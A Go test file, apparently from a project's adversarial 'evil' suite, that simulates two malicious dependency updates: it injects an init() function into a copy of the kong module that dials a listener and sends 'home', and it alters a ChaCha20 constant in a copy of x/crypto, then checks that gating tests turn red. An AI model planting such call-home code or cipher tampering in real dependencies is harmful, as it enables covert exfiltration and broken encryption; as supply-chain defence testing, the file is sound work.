//go:build evil

package evil

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
)

// Promise: a dependency does not become an accomplice unseen. Each is played by
// a copy of the module with a change that an update might bring, and by the tests
// that stand before every change of this program.
func init() {
	register(
		Attack{
			ID: "B-13/a", Name: "an update of a dependency that calls home", Expected: Prevented,
			Play: func(s *Stage) Facts {
				home := s.eavesdrop()
				fixture := fmt.Sprintf("package kong\n\nimport \"net\"\n\nfunc init() {\n\tif c, err := net.Dial(\"tcp\", %q); err == nil {\n\t\tc.Write([]byte(\"home\"))\n\t\tc.Close()\n\t}\n}\n", home.addr())
				modfile := s.dependency("github.com/alecthomas/kong", func(dir string) {
					s.Must(os.WriteFile(filepath.Join(dir, "zz_home.go"), []byte(fixture), 0o600))
				})
				f := s.gate(modfile, ".", "TestWhatDependenciesMayDo", "github.com/alecthomas/kong")
				if s.Long { // what stands behind the gate
					program := filepath.Join(s.Dir, "huis-home")
					if out, err := s.goTool(modfile, "build", "-o", program, "./cmd/huis"); err != nil {
						s.Fatal("%v %s", err, out)
					}
					s.Must(exec.CommandContext(s.ctx, program, "--help").Run())
					if !home.heard("home") {
						s.Fatal("the update does not call home: the gate was shown nothing")
					}
				}
				return f
			},
			Control: "without the update the same gate is green, and in the long run the program built with it calls home",
		},
		Attack{
			ID: "B-13/b", Name: "an update of a dependency with another constant in a cipher", Expected: Prevented,
			Play: func(s *Stage) Facts {
				modfile := s.dependency("golang.org/x/crypto", func(dir string) {
					n := 0
					for _, file := range []string{"chacha20poly1305/chacha20poly1305_amd64.s", "chacha20poly1305/chacha20poly1305_amd64.go", "chacha20/chacha_generic.go"} {
						b, err := os.ReadFile(filepath.Join(dir, file))
						s.Must(err)
						n += bytes.Count(b, []byte("0x61707865"))
						s.Must(os.WriteFile(filepath.Join(dir, file), bytes.ReplaceAll(b, []byte("0x61707865"), []byte("0x61707866")), 0o600))
					}
					if n == 0 {
						s.Fatal("the constant is not where it was")
					}
				})
				return s.gate(modfile, "./mls", "TestKnownAnswersOfTheCiphers", "ChaCha20-Poly1305 gives")
			},
			Control: "without the update the same gate is green",
		},
	)
}

// goTool runs go on this program's source; with a module file other than its own
// if one is named.
func (s *Stage) goTool(modfile string, args ...string) (string, error) {
	root, err := exec.CommandContext(s.ctx, "go", "list", "-m", "-f", "{{.Dir}}", "codeberg.org/huis/huis").Output()
	if err != nil {
		s.Must(errNoSource)
	}
	cmd := exec.CommandContext(s.ctx, "go", args...)
	cmd.Dir = strings.TrimSpace(string(root))
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if modfile != "" {
		cmd.Env = append(cmd.Env, "GOFLAGS=-modfile="+modfile)
	}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// dependency copies a module, lets change alter the copy, and returns a module
// file that has it in the place of the true one.
func (s *Stage) dependency(path string, change func(dir string)) (modfile string) {
	found, err := s.goTool("", "list", "-m", "-f", "{{.Dir}}", path)
	if err != nil {
		s.Fatal("%s: %v %s", path, err, found)
	}
	dir := filepath.Join(s.Dir, "dependency")
	s.Must(os.CopyFS(dir, os.DirFS(strings.TrimSpace(found))))
	s.Must(filepath.Walk(dir, func(name string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		return os.Chmod(name, info.Mode()|0o200) // the cache is read-only
	}))
	change(dir)
	root, err := s.goTool("", "list", "-m", "-f", "{{.Dir}}", "codeberg.org/huis/huis")
	s.Must(err)
	modfile = filepath.Join(s.Dir, "go.mod")
	for _, name := range []string{"go.mod", "go.sum"} {
		b, err := os.ReadFile(filepath.Join(strings.TrimSpace(root), name))
		s.Must(err)
		if name == "go.mod" {
			b = fmt.Appendf(b, "\nreplace %s => %s\n", path, dir)
		}
		s.Must(os.WriteFile(filepath.Join(s.Dir, name), b, 0o600))
	}
	return modfile
}

// gate runs the test that stands in the way of an update, with it and without:
// it has to be red for the reason it names, and green.
func (s *Stage) gate(modfile, where, test, why string) Facts {
	run := []string{"test", where, "-run", "^" + test + "$", "-count=1"}
	if out, err := s.goTool("", run...); err != nil {
		s.Fatal("the gate is red by itself: %s", out)
	}
	out, err := s.goTool(modfile, run...)
	if err != nil && !strings.Contains(out, why) {
		s.Fatal("the gate is red for another reason: %s", out)
	}
	return Facts{Effect: err == nil, Detail: out}
}
